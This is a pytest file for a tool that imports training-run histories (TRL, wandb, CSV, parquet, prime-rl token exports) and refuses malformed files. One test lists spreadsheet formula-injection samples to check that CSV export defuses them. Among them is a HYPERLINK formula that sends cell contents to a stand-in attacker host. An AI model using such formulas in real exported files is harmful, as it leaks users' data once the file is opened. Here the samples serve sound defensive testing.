"""Imports: what other tools wrote down becomes a run, in the ordinary way, once; nonsense is refused in one sentence."""

from __future__ import annotations

import csv
import json
import math
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from isentrope.cli.commands import import_history
from isentrope.imports.delivery import ImportRefused
from isentrope.imports.history import read_history
from isentrope.imports.prime_rl import is_token_export, read_token_export
from tests.server.in_thread import ServerInThread
from tests.server.rank import Rank, step_report

Write = Callable[[str, str], Path]


@pytest.fixture
def write(tmp_path: Path) -> Write:
    def written(name: str, text: str) -> Path:
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return path

    return written


def run_import(server: ServerInThread, path: Path, monkeypatch: pytest.MonkeyPatch, *more: str) -> Result:
    monkeypatch.setenv("ISENTROPE_TOKEN", server.owner_token)
    return CliRunner().invoke(import_history, [str(path), "--grpc", server.grpc_target, *more], catch_exceptions=False)


TRL_LOG = [
    {"loss": 0.1, "entropy": 1.25, "reward": 0.5, "step": 1, "epoch": 0.01, "frac_reward_zero_std": 0.25},
    {"loss": 0.0, "entropy": 1.0, "reward": 0.75, "step": 2, "completions/mean_length": 80.0},
    {"eval_reward": 0.9, "step": 2},
]


@pytest.mark.parametrize("kind", ["history.jsonl", "trainer_state.json"])
def test_a_trl_history_becomes_an_imported_run_under_the_names_promised(
    server: ServerInThread, write: Write, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    lines = "".join(f"{json.dumps(row)}\n" for row in TRL_LOG)
    path = write(kind, lines if kind.endswith("l") else json.dumps({"log_history": TRL_LOG, "global_step": 2}))
    imported = json.loads(run_import(server, path, monkeypatch, "--name", f"trl {kind}", "--json").output)
    assert (imported["reports"], imported["first_step"], imported["last_step"]) == (2, 1, 2)
    run = server.http.get(f"/api/v1/runs/{imported['run']}").json()
    assert (run["status"], run["step"], run["name"], run["project"]) == ("imported", 2, f"trl {kind}", "imported")
    first, second = (
        server.http.get(f"/api/v1/runs/{imported['run']}/steps/{step}").json()["scalars"] for step in (1, 2)
    )
    assert first == {
        "loss": 0.1, "entropy/mean": 1.25, "reward/mean": 0.5, "epoch": 0.01, "advantage/zero_group_fraction": 0.25,
    }  # fmt: skip
    assert second == {
        "loss": 0.0, "entropy/mean": 1.0, "reward/mean": 0.75, "completion/length_mean": 80.0, "eval_reward": 0.9,
    }  # fmt: skip


def test_the_same_file_twice_is_the_same_run(
    server: ServerInThread, write: Write, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write("again.csv", "step,x\n0,1.5\n1,2.5\n")
    first, second = (run_import(server, path, monkeypatch).output for _ in range(2))
    assert first == second
    run_id = first.splitlines()[0].removeprefix("run: ")
    columns = server.http.get(f"/api/v1/runs/{run_id}/metrics/series?name=x").json()["series"]["x"]
    assert (columns["step"], columns["value"]) == ([0, 1], [1.5, 2.5])


def test_a_wandb_history_keeps_its_times_and_what_is_missing_stays_missing(write: Write) -> None:
    path = write(
        "wandb.jsonl",
        '{"_step": 0, "_timestamp": 1700000000.5, "_runtime": 3, "train/entropy": 2.0, "note": "warm", "grad": "NaN"}\n'
        '{"_step": 3, "_timestamp": 1700000009.0, "train/entropy": null, "train/kl": 0.1}\n\n',
    )
    first, second = read_history(path)
    assert (first.step, first.recorded_at, second.recorded_at) == (0, 1700000000.5, 1700000009.0)
    assert first.scalars["entropy/mean"] == 2.0
    assert math.isnan(first.scalars["grad"])
    assert set(first.scalars) == {"entropy/mean", "grad"}
    assert second.scalars == {"kl/reference": 0.1}


def test_a_wandb_chart_as_csv_is_named_after_its_metric(write: Write) -> None:
    header = '"Step","fast-run-7 - train/reward","fast-run-7 - train/reward__MIN","fast-run-7 - train/reward__MAX"\n'
    (report,) = read_history(write("chart.csv", f'{header}"5","0.5","0.5","0.5"\n'))
    assert (report.step, report.scalars) == (5, {"reward/mean": 0.5})


@pytest.mark.parametrize(
    ("name", "text", "problem"),
    [
        ("a.csv", "x,y\n1,2\n", "line 2"),
        ("a.csv", "step,x\n1.5,2\n", "'1.5'"),
        ("a.csv", "step,x\n-1,2\n", "'-1'"),
        ("a.csv", "step,x\nnan,2\n", "'nan'"),
        ("a.csv", "step,note\n1,warm\n", "a.csv"),
        ("a.csv", "", "a.csv"),
        ("a.jsonl", '{"step": 1, "x": 2}\n{"step": 2,\n', "line 2"),
        ("a.jsonl", "[1, 2]\n", "line 1"),
        ("a.json", '{"step": 1}', "`log_history`"),
        ("a.jsonl", f'{{"step": 1, "{"n" * 300}": 2}}', "200"),
    ],
)
def test_nonsense_is_refused_in_one_sentence_with_its_place(write: Write, name: str, text: str, problem: str) -> None:
    with pytest.raises(ImportRefused) as refused:
        read_history(write(name, text))
    assert problem in str(refused.value)
    assert "\n" not in str(refused.value)


def test_bytes_that_are_no_text_are_refused(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_bytes(b"GIF8\xff\xfe\x00\x81")
    with pytest.raises(ImportRefused, match=r"a\.csv"):
        read_history(tmp_path / "a.csv")


def test_a_folder_that_is_no_export_is_refused_with_what_was_expected(tmp_path: Path) -> None:
    (tmp_path / "runs" / "rank_0.jsonl").mkdir(parents=True)
    for folder in (tmp_path / "runs", tmp_path / "runs" / "rank_0.jsonl"):
        assert not is_token_export(folder)
        with pytest.raises(ImportRefused, match=r"is a folder.* prime-rl .*trainer_state\.json"):
            read_history(folder)


def test_a_run_exported_as_parquet_can_be_imported(
    server: ServerInThread, write: Write, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    path = write("origin.csv", "step,time,entropy,x\n0,1700000000.5,2.0,\n1,1700000001.5,1.5,nan\n")
    origin = json.loads(run_import(server, path, monkeypatch, "--json").output)["run"]
    exported_run = server.http.get(f"/api/v1/runs/{origin}/export?format=parquet").content
    copy = tmp_path / "copy.parquet"
    copy.write_bytes(exported_run)
    first, second = read_history(copy)
    assert (first.step, first.recorded_at, first.scalars) == (0, 1700000000.5, {"entropy/mean": 2.0})
    assert (second.step, set(second.scalars)) == (1, {"entropy/mean", "x"})
    assert math.isnan(second.scalars["x"])
    imported = json.loads(run_import(server, copy, monkeypatch, "--json").output)
    assert (imported["reports"], imported["last_step"]) == (2, 1)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "@SUM(1)",
    "+x",
    "-x",
    "\tx",
    "'=x",
    "''+x",
    "'quoted",
    "a=b",
]


def test_no_spreadsheet_runs_a_name_of_an_export_and_import_knows_it_again(
    server: ServerInThread, tmp_path: Path
) -> None:
    rank = Rank(server)
    rank.send(step_report(0, {name: float(index) for index, name in enumerate(FORMULAS)}))
    file = tmp_path / "run.csv"
    file.write_bytes(server.http.get(f"{rank.path}/export", params={"format": "csv"}).content)
    header = next(csv.reader(file.open(newline="")))
    assert len(set(header)) == 4 + len(FORMULAS)
    assert not [name for name in header if name.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert {"a=b", "'quoted", "'@SUM(1)", "''=x"} <= set(header)
    (report,) = read_history(file)
    assert report.scalars == {name: float(index) for index, name in enumerate(FORMULAS)}


def test_an_apostrophe_in_the_history_of_another_tool_stays(write: Write) -> None:
    (report,) = read_history(write("theirs.csv", "step,'=x\n0,1.0\n"))
    assert report.scalars == {"'=x": 1.0}


def test_parquet_that_is_torn_or_can_not_be_read_here_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    torn = tmp_path / "torn.parquet"
    torn.write_bytes(b"PAR1 and then the disk was full")
    with pytest.raises(ImportRefused, match=r"torn\.parquet"):
        read_history(torn)
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(ImportRefused, match="pip install pyarrow"):
        read_history(torn)


def exported(step: int, **changes: Any) -> str:
    sequence = {
        "schema_version": 1, "step": step, "export_step": step, "rank": 0,
        "token_ids": [5, 6, 7], "loss_mask": [False, True, True],
        "trainer_logprobs": [-0.1, math.log(0.5), math.log(0.25)], "entropy": [0.0, 1.0, 2.0],
        "advantages": [1.0, 1.0, -1.0], "rewards": [0.5, 0.5, 0.5], "importance_ratio": [1.0, 1.5, 0.5],
        "is_masked": [False, False, True],
    }  # fmt: skip
    return json.dumps(sequence | changes) + "\n"


def test_a_prime_rl_token_export_becomes_one_report_for_each_step(write: Write, tmp_path: Path) -> None:
    write("token_exports/step_3/rank_0.jsonl", exported(3) + exported(3, rewards=[1.0] * 3))
    write("token_exports/step_3/rank_1.jsonl", exported(3, entropy=[0.0, None, 5.0], rewards=[1.5] * 3))
    write("token_exports/step_4/rank_0.jsonl", exported(4))
    assert is_token_export(tmp_path / "token_exports")
    first, second = read_token_export(tmp_path / "token_exports")
    assert (first.step, second.step) == (3, 4)
    assert first.scalars["token/count"] == 5
    assert first.scalars["entropy/mean"] == pytest.approx((1 + 2 + 1 + 2 + 5) / 5)
    assert first.scalars["reward/mean"] == pytest.approx((0.5 + 1.0 + 1.5) / 3)
    assert second.scalars["score/discriminator_mean"] == pytest.approx(
        (0.5 * (1 + math.log(0.5)) + 0.25 * (2 + math.log(0.25))) / 2
    )
    assert second.scalars["covariance/advantage_logprob"] == pytest.approx(math.log(2) / 2)
    assert (second.scalars["ratio/mean"], second.scalars["clip/fraction"]) == (1.0, 0.5)
    assert second.scalars["completion/length_mean"] == 2
    by_name = {histogram.name: histogram for histogram in second.histograms}
    assert [sum(histogram.counts) for histogram in second.histograms] == [2, 2, 2]
    assert (by_name["token/probability"].counts[32], by_name["token/probability"].counts[16]) == (1, 1)


@pytest.mark.parametrize(
    ("line", "problem"),
    [
        (exported(1, schema_version=2), "1 .* 2"),
        ("{}\n", "1 .* None"),
        ("oops\n", "line 1"),
        (exported(1, entropy=[1.0]), "entropy"),
        (exported(1, export_step="last"), "export_step.*'last'"),
        (exported(1, loss_mask=[False] * 3), "rank_0"),
    ],
)
def test_what_is_no_token_export_of_this_version_is_refused(write: Write, line: str, problem: str) -> None:
    path = write("step_1/rank_0.jsonl", line)
    with pytest.raises(ImportRefused, match=problem):
        read_token_export(path)
